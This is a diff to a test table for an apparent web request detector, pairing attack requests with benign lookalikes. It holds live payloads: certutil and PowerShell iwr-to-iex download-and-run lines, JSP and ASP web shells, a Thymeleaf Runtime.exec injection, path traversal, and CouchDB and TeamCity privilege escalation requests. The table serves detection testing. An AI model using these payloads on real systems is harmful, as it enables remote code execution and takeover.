@@ -59,6 +59,10 @@ const CASES: Array<[number, string, RequestSpec, RequestSpec]> = [
   [9001322, 'a Thymeleaf preprocessing expression', q('lang=__%24%7BT(java.lang.Runtime).getRuntime().exec(%22id%22)%7D__%3A%3A.x'), q('lang=__en__')],
   [9001323, 'a template parameter naming an FTP template', json('{"params":{"_template":"ftp://x.test/x.vm"}}'), json('{"params":{"template":"https://cdn.example.com/emails/welcome.html"}}')],
   [9001323, 'a template parameter with a traversal', q('template=..%2F..%2FWEB-INF%2Fweb.xml'), q('template=invoice-2024&layout=wide')],
+  [9000318, 'certutil fetching a URL', q('cmd=certutil+-urlcache+-split+-f+http%3A%2F%2Fx.test%2Fa.exe+%25TEMP%25%5Ca.exe'), q('q=certutil+-urlcache+cleanup')],
+  [9000318, 'a web request piped to iex', json('{"c":"powershell -c \\"iwr https://x.test/a.ps1 -useb|iex\\""}'), json('{"content":"Invoke-WebRequest -Uri https://example.com/file.zip -OutFile $env:TEMP\\\\file.zip"}')],
+  [9001325, 'a JSP page running a request parameter', { method: 'PUT', url: '/x.jsp', body: '<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>' }, json('{"body":"Runtime.getRuntime().exec(\\"notepad.exe\\") works on my machine"}')],
+  [9001325, 'an ASP page running Request()', { method: 'PUT', url: '/x.asp', body: '<% Set o = Server.CreateObject("WScript.Shell") : Response.Write o.Exec("cmd /c " & Request("c")).StdOut.ReadAll() %>' }, json('{"doc":"CreateObject(\\"WScript.Shell\\") is how old scripts open a shell"}')],
   [9001507, 'the TeamCity token path ending in /RPC2', { method: 'POST', url: '/app/rest/users/id:1/tokens/RPC2' }, { method: 'POST', url: '/app/rest/users/id:1/tokens/ci-token' }],
   [9001508, 'a JSON object granting roles twice', { method: 'PUT', url: '/_users/org.couchdb.user:x', headers: JSON_HEADERS, body: '{"type":"user","name":"x","roles":["_admin"],"roles":[],"password":"p"}' }, { method: 'PUT', url: '/db/_security', headers: JSON_HEADERS, body: '{"admins":{"names":[],"roles":["ops","dba"]},"members":{"names":[],"roles":["dev"]}}' }],
 ];
